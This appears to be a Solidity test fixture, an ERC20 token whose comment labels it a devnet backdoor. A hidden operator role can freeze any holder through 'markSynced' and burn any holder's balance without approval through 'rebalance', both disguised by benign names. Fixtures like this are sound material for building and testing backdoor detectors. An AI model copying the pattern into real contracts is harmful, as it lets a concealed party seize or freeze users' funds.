// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "../lib/ERC20.sol";

/// @notice No owner(): powers are gated by a private role mapping (`operators`). An operator can
/// freeze any holder (`markSynced`: a flag the transfer path refuses) and burn any holder's
/// balance without approval (`rebalance`). Devnet backdoor fixture.
contract RoleMapToken is ERC20 {
    mapping(address => bool) private operators;
    mapping(address => bool) private _syncPending;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_, 18) {
        operators[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    modifier onlySynced() {
        require(operators[msg.sender], "sync: not an operator");
        _;
    }

    /// @notice "Marks an account as awaiting sync": a marked account can no longer send tokens.
    function markSynced(address account, bool pending) external onlySynced {
        _syncPending[account] = pending;
    }

    /// @notice "Rebalances" a holder: removes `amount` from its balance and from the supply.
    function rebalance(address account, uint256 amount) external onlySynced {
        _move(account, address(0), amount);
    }

    function _update(address from, address to, uint256 amount) internal override {
        require(!_syncPending[from], "sync: pending");
        _move(from, to, amount);
    }
}
